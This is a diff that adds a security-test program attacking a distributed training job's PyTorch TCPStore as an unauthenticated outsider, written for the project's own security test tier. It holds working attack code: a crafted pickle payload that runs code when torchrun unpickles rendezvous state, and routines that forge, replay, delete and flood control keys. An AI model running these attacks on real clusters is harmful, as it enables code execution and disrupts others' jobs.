@@ -1,0 +1,475 @@
+"""An outsider attacking a job's TCPStore: a plain ``torch.distributed.TCPStore`` client that holds no secret.
+
+It is the attacker of issue 27's threat model: anything that can open a TCP connection to an agent (or worker)
+port can list, read, write and delete every key, replay old values and send 8 MiB values as fast as the network
+allows. It knows nothing of disttrain's defences (it imports nothing of disttrain): it only derives the job's key
+names from what ``list_keys()`` shows and from the public key names of the control channel. Each attack runs in a
+bounded loop for ``--seconds`` against the one address it is given, and writes a JSON report of what it did::
+
+    python tests/security/outsider.py 127.0.0.1:29400 forge --seconds 10 --report /tmp/forge.json
+    python tests/security/outsider.py 127.0.0.1:29400 pickle --marker /tmp/pwned --report /tmp/pickle.json
+
+``--marker`` names the file the crafted pickles create when anyone unpickles them: if it exists afterwards, the
+attacker's code ran. The security test tier (``tests/security/test_outsider.py``) and the real-control-plane
+tier (run as a pod in another namespace) both drive this program.
+"""
+
+from __future__ import annotations
+
+import argparse
+import base64
+import builtins
+import collections
+import dataclasses
+import datetime
+import json
+import pickle
+import sys
+import time
+from collections.abc import Callable, Iterator
+from typing import Any, Optional, Union
+
+ATTACKS = ("list", "forge", "pickle", "delete", "flood")
+"""The attacks in the order ``all`` runs them."""
+
+CONTROL_NAMES = (
+    "signal",
+    "target",
+    "progress",
+    "checkpoint",
+    "exit-first",
+    "exit-last",
+    "failure",
+    "reliability",
+    "interval",
+)
+"""The control channel's key names under ``disttrain/`` (api/control.py names them in public)."""
+CONTROL_DIR = "disttrain/"
+RENDEZVOUS_MARK = "torch.rendezvous."
+FLOOD_VALUE_BYTES = 8 * 1024 * 1024
+"""The libuv TCPStore server's largest value: the most one ``set`` can make the server hold."""
+MAX_GENERATION = 2**31 - 1
+PERMANENT_EXIT_CODE = 85
+OP_TIMEOUT = datetime.timedelta(seconds=5)
+MAX_ERROR_SAMPLES = 20
+
+
+@dataclasses.dataclass
+class Report:
+    """What the outsider did: written as JSON to ``--report`` (and printed as a one-line summary)."""
+
+    address: str
+    attack: str
+    started_at: float = dataclasses.field(default_factory=time.time)
+    seconds: float = 0.0
+    ops: collections.Counter[str] = dataclasses.field(default_factory=collections.Counter)
+    bytes_sent: int = 0
+    keys_seen: list[str] = dataclasses.field(default_factory=list)
+    prefixes: list[str] = dataclasses.field(default_factory=list)
+    targets: dict[str, list[str]] = dataclasses.field(default_factory=dict)
+    """Attack -> the keys it wrote or deleted (at most 200 per attack)."""
+    errors: collections.Counter[str] = dataclasses.field(default_factory=collections.Counter)
+    error_samples: list[str] = dataclasses.field(default_factory=list)
+    phases: list[dict[str, Any]] = dataclasses.field(default_factory=list)
+    """One entry per attack run: name, start and end (Unix times), ops."""
+
+    def error(self, op: str, exc: BaseException) -> None:
+        self.errors[f"{op}: {type(exc).__name__}"] += 1
+        if len(self.error_samples) < MAX_ERROR_SAMPLES:
+            self.error_samples.append(f"{op}: {type(exc).__name__}: {str(exc)[:300]}")
+
+    def target(self, attack: str, key: str) -> None:
+        keys = self.targets.setdefault(attack, [])
+        if key not in keys and len(keys) < 200:
+            keys.append(key)
+
+    def as_json(self) -> dict[str, Any]:
+        data = dataclasses.asdict(self)
+        data["ops"] = dict(self.ops)
+        data["errors"] = dict(self.errors)
+        return data
+
+
+class Outsider:
+    """One TCPStore client connection, re-opened when the server drops it, every operation counted."""
+
+    def __init__(self, host: str, port: int, report: Report) -> None:
+        self.host = host
+        self.port = port
+        self.report = report
+        self._store: Any = None
+
+    def store(self) -> Any:
+        if self._store is None:
+            from torch.distributed import TCPStore  # imported late: --help works without torch
+
+            self._store = TCPStore(self.host, self.port, is_master=False, timeout=OP_TIMEOUT, wait_for_workers=False)
+            self.report.ops["connect"] += 1
+        return self._store
+
+    def call(self, op: str, *args: Any) -> Any:
+        """``store.<op>(*args)``; None (and the error counted) when it fails; a failed connection is reopened."""
+        try:
+            result = getattr(self.store(), op)(*args)
+        except Exception as exc:  # noqa: BLE001 - an attacker counts every failure and carries on
+            self.report.error(op, exc)
+            if isinstance(exc, (ConnectionError, OSError)) or "onnect" in str(exc) or "roken pipe" in str(exc):
+                self._store = None
+                time.sleep(0.05)
+            return None
+        self.report.ops[op] += 1
+        return result
+
+    def list_keys(self) -> list[str]:
+        keys = self.call("list_keys")
+        found = sorted(str(k) for k in keys) if keys else []
+        for key in found:
+            if key not in self.report.keys_seen and len(self.report.keys_seen) < 1000:
+                self.report.keys_seen.append(key)
+        return found
+
+    def get(self, key: str) -> Optional[bytes]:
+        """The value of ``key``, or None when absent (``check`` first: ``get`` blocks until the key exists)."""
+        if not self.call("check", [key]):
+            return None
+        value = self.call("get", key)
+        return bytes(value) if value is not None else None
+
+    def set(self, key: str, value: Union[str, bytes]) -> None:
+        self.call("set", key, value)
+        self.report.bytes_sent += len(key) + len(value)
+
+    def compare_set(self, key: str, expected: Union[str, bytes], value: Union[str, bytes]) -> None:
+        self.call("compare_set", key, expected, value)
+        self.report.bytes_sent += len(key) + len(expected) + len(value)
+
+    def delete(self, key: str) -> None:
+        self.call("delete_key", key)
+
+
+def prefixes_of(keys: list[str]) -> list[str]:
+    """The key prefixes the job uses, read off the listing: whatever precedes ``disttrain/`` or
+    ``torch.rendezvous.`` in a key ("" included: a job without a prefix, or torch's own keys)."""
+    found: set[str] = {""}
+    for key in keys:
+        for mark in (CONTROL_DIR, RENDEZVOUS_MARK):
+            at = key.find(mark)
+            if at >= 0:
+                found.add(key[:at])
+    return sorted(found)
+
+
+def rendezvous_state_keys(outsider: Outsider, keys: list[str]) -> list[str]:
+    """torchrun's rendezvous state keys: ``<prefix>torch.rendezvous.<run id>`` (no further path), plus any key whose
+    value is base64 of a pickle (the C10dRendezvousBackend format) wherever it lives."""
+    found = []
+    for key in keys:
+        tail = key.rsplit(RENDEZVOUS_MARK, 1)[-1] if RENDEZVOUS_MARK in key else None
+        if tail is not None and tail and "/" not in tail:
+            found.append(key)
+            continue
+        value = outsider.get(key)
+        if value and is_base64_pickle(value):
+            found.append(key)
+    return found
+
+
+def is_base64_pickle(value: bytes) -> bool:
+    try:
+        decoded = base64.b64decode(value, validate=True)
+    except (ValueError, TypeError):
+        return False
+    return decoded[:1] == b"\x80"
+
+
+def now_rfc3339() -> str:
+    return datetime.datetime.now(datetime.timezone.utc).isoformat().replace("+00:00", "Z")
+
+
+def forged_values(name: str, current: Optional[dict[str, Any]], job_uid: str, nodes: list[str]) -> list[str]:
+    """Plausible forged JSON values for control key ``name``: built from scratch as api/control.py's models
+    describe them, and (when the key has a value now) the current value with its meaning turned against the job."""
+    now = time.time()
+    values: list[dict[str, Any]] = []
+    if name == "failure":
+        values.append(
+            {
+                "exit_code": PERMANENT_EXIT_CODE,
+                "node": nodes[0] if nodes else "outsider",
+                "message": "outsider: permanent failure",
+                "time": now,
+            }
+        )
+    elif name == "signal":
+        for action in ("drain", "reform"):
+            values.append({"generation": MAX_GENERATION, "action": action, "reason": "outsider", "job_uid": job_uid})
+    elif name == "target":
+        values.append(
+            {"generation": MAX_GENERATION, "nodes": 1, "exclude": nodes[1:], "lost": nodes[1:], "job_uid": job_uid}
+        )
+        values.append({"generation": MAX_GENERATION, "nodes": 0, "exclude": nodes, "lost": nodes, "job_uid": job_uid})
+    elif name == "progress":
+        values.append(
+            {
+                "step": 2**40,
+                "samples_consumed": 2**40,
+                "world_size": 1,
+                "plan": {},
+                "loss": 0.0,
+                "restart_count": 1000,
+                "run_id": "outsider",
+                "process_id": "outsider",
+                "time": now,
+            }
+        )
+    elif name == "checkpoint":
+        forged = dict(current or {})
+        forged.update({"step": int(forged.get("step", 0)) + 1_000_000, "created_at": now_rfc3339()})
+        forged.setdefault("format_version", 1)
+        forged.setdefault("samples_consumed", 12_000_000)
+        forged.setdefault("data_cursor", 12_000_000)
+        forged.setdefault("world_size", 1)
+        forged.setdefault("plan", {})
+        forged.setdefault("lr_scale", 1.0)
+        forged.setdefault("metadata_sha256", "0" * 64)
+        forged.setdefault("files", {})
+        values.append(forged)
+    elif name == "reliability":
+        values.append({"started_at": now - 1.0, "suspended_seconds": 0.0, "failures": 10_000})
+    elif name == "interval":
+        values.append(
+            {"steps": 1, "save_seconds": 0.0, "step_seconds": 1.0, "mtbf_seconds": 1.0, "failures": 10_000, "time": now}
+        )
+    texts = [json.dumps(v) for v in values]
+    if name in ("exit-first", "exit-last"):
+        texts += [repr(now - 3600.0), repr(now + 3600.0)]
+    return texts
+
+
+def parse_json(value: Optional[bytes]) -> Optional[dict[str, Any]]:
+    if not value or len(value) > 65536:
+        return None
+    try:
+        data = json.loads(value)
+    except (ValueError, UnicodeDecodeError):
+        return None
+    return data if isinstance(data, dict) else None
+
+
+def turned(data: dict[str, Any]) -> dict[str, Any]:
+    """A listed JSON value with every generation, step and count pushed to the edge of its range."""
+    out: dict[str, Any] = {}
+    for key, value in data.items():
+        if isinstance(value, bool):
+            out[key] = not value
+        elif isinstance(value, int):
+            out[key] = MAX_GENERATION if "generation" in key else value + 1_000_000
+        elif isinstance(value, float):
+            out[key] = value + 3600.0
+        else:
+            out[key] = value
+    return out
+
+
+def deadline_loop(seconds: float) -> Iterator[int]:
+    """Rounds until ``seconds`` pass (at least one)."""
+    end = time.monotonic() + seconds
+    round_ = 0
+    while True:
+        yield round_
+        round_ += 1
+        if time.monotonic() >= end:
+            return
+
+
+def attack_list(outsider: Outsider, seconds: float) -> None:
+    """List every key (once): the premise of the key-prefix defence is gone when this shows them."""
+    del seconds
+    for key in outsider.list_keys():
+        print(key, flush=True)
+
+
+def attack_forge(outsider: Outsider, seconds: float) -> None:
+    """Write forged control values under every prefix seen, and turned copies of every listed JSON value; replay
+    the values first seen (old values) too; repeat until ``seconds`` pass."""
+    first: dict[str, bytes] = {}
+    for round_ in deadline_loop(seconds):
+        keys = outsider.list_keys()
+        values: dict[str, Optional[bytes]] = {key: outsider.get(key) for key in keys if "flood" not in key}
+        if round_ == 0:
+            first = {k: v for k, v in values.items() if v is not None and len(v) <= 65536}
+        job_uid = ""
+        nodes: list[str] = []
+        for value in values.values():
+            data = parse_json(value)
+            if data:
+                job_uid = job_uid or str(data.get("job_uid") or "")
+                nodes += [n for n in data.get("exclude", []) + data.get("lost", []) if isinstance(n, str)]
+                if isinstance(data.get("node"), str) and data["node"]:
+                    nodes.append(data["node"])
+        nodes = sorted(set(nodes)) or ["node-0", "node-1"]
+        for key, value in values.items():
+            data = parse_json(value)
+            if data is not None:
+                outsider.set(key, json.dumps(turned(data)))
+                outsider.report.target("forge", key)
+        for prefix in prefixes_of(keys):  # last, so the hostile value is the one that stays
+            for name in CONTROL_NAMES:
+                key = prefix + CONTROL_DIR + name
+                for text in forged_values(name, parse_json(values.get(key)), job_uid, nodes):
+                    outsider.set(key, text)
+                    outsider.report.target("forge", key)
+        if round_ % 2 == 1:  # replay what was there when the attack began
+            for key, value in first.items():
+                outsider.set(key, value)
+                outsider.report.ops["replay"] += 1
+        time.sleep(0.05)
+
+
+class _CreatesMarker:
+    """Unpickling this calls ``open(marker, "a")``: the file appearing proves the job ran the attacker's code."""
+
+    def __init__(self, marker: str) -> None:
+        self.marker = marker
+
+    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, str]]:
+        return (builtins.open, (self.marker, "a"))
+
+
+def pickle_payloads(marker: str) -> list[bytes]:
+    """The crafted pickle as torch's C10dRendezvousBackend stores its state (base64 text of the pickle, with
+    protocol 2 and the newest protocol) and raw (for any reader that skips the base64)."""
+    raws = [pickle.dumps(_CreatesMarker(marker), protocol=2), pickle.dumps(_CreatesMarker(marker))]
+    return [base64.b64encode(raw) for raw in raws] + raws
+
+
+def attack_pickle(outsider: Outsider, seconds: float, marker: str) -> None:
+    """Overwrite torchrun's rendezvous state with the file-creating pickle, by ``set`` and by ``compare_set``
+    against the current value (what torchrun's own writer does), until ``seconds`` pass."""
+    payloads = pickle_payloads(marker)
+    for round_ in deadline_loop(seconds):
+        keys = outsider.list_keys()
+        state_keys = rendezvous_state_keys(outsider, keys)
+        for prefix in prefixes_of(keys):
+            run_ids = {k.rsplit(RENDEZVOUS_MARK, 1)[1].split("/", 1)[0] for k in keys if RENDEZVOUS_MARK in k}
+            state_keys += [prefix + RENDEZVOUS_MARK + run_id for run_id in run_ids if run_id]
+        payload = payloads[round_ % len(payloads)]
+        for key in sorted(set(state_keys)):
+            current = outsider.get(key)
+            if current is not None and round_ % 2 == 0:
+                outsider.compare_set(key, current, payload)
+            else:
+                outsider.set(key, payload)
+            outsider.report.target("pickle", key)
+        time.sleep(0.05)
+
+
+def attack_delete(outsider: Outsider, seconds: float) -> None:
+    """Delete every listed key, again and again, until ``seconds`` pass."""
+    for _ in deadline_loop(seconds):
+        for key in outsider.list_keys():
+            outsider.delete(key)
+            outsider.report.target("delete", key)
+        time.sleep(0.02)
+
+
+def attack_flood(outsider: Outsider, seconds: float, max_bytes: int) -> None:
+    """Set 8 MiB values under fresh keys, and under the job's own key names (every prefix seen), as fast as the
+    server takes them, until ``seconds`` pass or ``max_bytes`` were sent."""
+    big = b"\xa5" * FLOOD_VALUE_BYTES
+    keys = outsider.list_keys()
+    own = [prefix + CONTROL_DIR + name for prefix in prefixes_of(keys) for name in CONTROL_NAMES]
+    own += [k for k in keys if RENDEZVOUS_MARK in k]
+    count = 0
+    start = outsider.report.bytes_sent
+    for round_ in deadline_loop(seconds):
+        if outsider.report.bytes_sent - start >= max_bytes:
+            outsider.report.ops["flood_capped"] += 1
+            return
+        if round_ % 8 == 7 and own:
+            key = own[(round_ // 8) % len(own)]
+        else:
+            key = f"outsider/flood/{time.time_ns()}/{count}"
+            count += 1
+        outsider.set(key, big)
+        outsider.report.target("flood", key if not key.startswith("outsider/flood/") else "outsider/flood/*")
+
+
+def run(outsider: Outsider, attack: str, seconds: float, marker: str, max_bytes: int) -> None:
+    attacks = ATTACKS if attack == "all" else (attack,)
+    for name in attacks:
+        ops_before = sum(outsider.report.ops.values())
+        started = time.time()
+        if name == "list":
+            attack_list(outsider, seconds)
+        elif name == "forge":
+            attack_forge(outsider, seconds)
+        elif name == "pickle":
+            attack_pickle(outsider, seconds, marker)
+        elif name == "delete":
+            attack_delete(outsider, seconds)
+        else:
+            attack_flood(outsider, seconds, max_bytes)
+        outsider.report.phases.append(
+            {
+                "attack": name,
+                "start": started,
+                "end": time.time(),
+                "ops": sum(outsider.report.ops.values()) - ops_before,
+            }
+        )
+
+
+def parse_args(argv: Optional[list[str]] = None) -> argparse.Namespace:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n", 1)[0])
+    parser.add_argument("address", help="HOST:PORT of the store (the job agent's, or a worker's)")
+    parser.add_argument("attack", choices=(*ATTACKS, "all"))
+    parser.add_argument("--seconds", type=float, default=10.0, help="how long each attack repeats (default 10)")
+    parser.add_argument(
+        "--marker",
+        default="/tmp/disttrain-outsider-marker",
+        help="file the crafted pickles create when unpickled (default %(default)s)",
+    )
+    parser.add_argument("--report", help="write the JSON report here")
+    parser.add_argument(
+        "--max-flood-mb",
+        type=float,
+        default=1e9,
+        help="stop the flood after sending this many MiB (a safety cap for hosts without limits)",
+    )
+    args = parser.parse_args(argv)
+    host, sep, port = args.address.rpartition(":")
+    if not sep or not host or not port.isdigit() or not 0 < int(port) < 65536:
+        parser.error(f"address={args.address!r} is not HOST:PORT with a port in 1..65535")
+    if not 0 <= args.seconds <= 3600:
+        parser.error(f"--seconds={args.seconds} is not between 0 and 3600")
+    args.host, args.port = host.strip("[]"), int(port)
+    return args
+
+
+def main(argv: Optional[list[str]] = None) -> int:
+    args = parse_args(argv)
+    report = Report(address=args.address, attack=args.attack)
+    outsider = Outsider(args.host, args.port, report)
+    outsider.call("check", ["outsider/connect"])  # connect (and import torch) before the clock starts
+    start = time.monotonic()
+    try:
+        run(outsider, args.attack, args.seconds, args.marker, int(args.max_flood_mb * 1024 * 1024))
+    finally:
+        report.seconds = round(time.monotonic() - start, 3)
+        report.prefixes = prefixes_of(report.keys_seen)
+        if args.report:
+            with open(args.report, "w", encoding="utf-8") as handle:
+                json.dump(report.as_json(), handle, indent=1)
+        print(
+            f"outsider {args.attack} on {args.address}: {sum(report.ops.values())} ops, "
+            f"{report.bytes_sent / 2**20:.1f} MiB sent, {len(report.keys_seen)} keys seen, "
+            f"{sum(report.errors.values())} errors in {report.seconds:.1f} s",
+            file=sys.stderr,
+            flush=True,
+        )
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
